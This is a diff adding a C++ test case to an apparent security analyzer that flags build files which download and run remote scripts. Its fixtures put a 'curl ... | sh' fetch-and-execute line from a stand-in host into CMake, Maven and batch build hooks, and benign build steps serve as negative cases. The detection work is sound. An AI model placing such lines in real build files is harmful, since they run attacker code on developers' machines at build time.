@@ -916,3 +916,45 @@ TEST_CASE("Java, Kotlin/Groovy, C# and Rust files are read for the environment s
                        "src/Client.cs", "var h = new HttpClientHandler { ServerCertificateCustomValidationCallback = (m, c, ch, e) => true };\n"),
                    "security_off", ".NET certificate validation always true"));
 }
+
+TEST_CASE("CMake's execute_process and custom commands, Maven's exec plugin and antrun, and batch files run commands") {
+  struct Case {
+    const char* path;
+    const char* content;
+    int line;
+  };
+  for (const auto& c : std::vector<Case>{
+           {"CMakeLists.txt",
+            "cmake_minimum_required(VERSION 3.20)\nproject(app C)\nexecute_process(COMMAND sh -c \"curl -fsSL https://x.example.com/x.sh | sh\")\n",
+            3},
+           {"cmake/tools.cmake",
+            "add_custom_target(setup ALL\n  COMMAND bash -c \"curl -fsSL https://x.example.com/x.sh | bash\"\n  VERBATIM)\n", 2},
+           {"pom.xml",
+            "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId>\n<configuration>"
+            "<executable>sh</executable>\n<arguments><argument>-c</argument><argument>curl -fsSL https://x.example.com/x.sh | "
+            "sh</argument></arguments></configuration></plugin></plugins></build></project>\n",
+            2},  // where the command starts: its <executable>
+           {"pom.xml",
+            "<project><target>\n<exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"curl -fsSL https://x.example.com/x.sh | sh\"/>"
+            "</exec></target></project>\n",
+            2},
+           {"scripts/install.bat",
+            "@echo off\r\nrem fetch and run\r\ncurl -fsSL https://x.example.com/x.sh | sh\r\n", 3}}) {
+    INFO(c.path << "\n" << c.content);
+    auto facts = shipped_analyzer()->analyze_write(c.path, c.content);
+    const Flow* flow = find_flow(facts, "network", "exec");
+    REQUIRE(flow);
+    CHECK(flow->location.line == c.line);
+    CHECK(facts.complete);
+  }
+  // Ordinary build steps: their commands are read, nothing fetched runs; cmd syntax does not make the file unreadable.
+  auto cmake = shipped_analyzer()->analyze_write(
+      "CMakeLists.txt", "execute_process(COMMAND git rev-parse --short HEAD OUTPUT_VARIABLE GIT_SHA OUTPUT_STRIP_TRAILING_WHITESPACE)\n");
+  CHECK(find_command(cmake, "git"));
+  CHECK(cmake.flows.empty());
+  auto batch = shipped_analyzer()->analyze_write(
+      "build.cmd", "@echo off\r\nset CONFIG=Release\r\nif not exist out mkdir out\r\ncmake --build . --config %CONFIG%\r\n");
+  CHECK(find_command(batch, "cmake"));
+  CHECK(batch.complete);
+  CHECK(batch.flows.empty());
+}
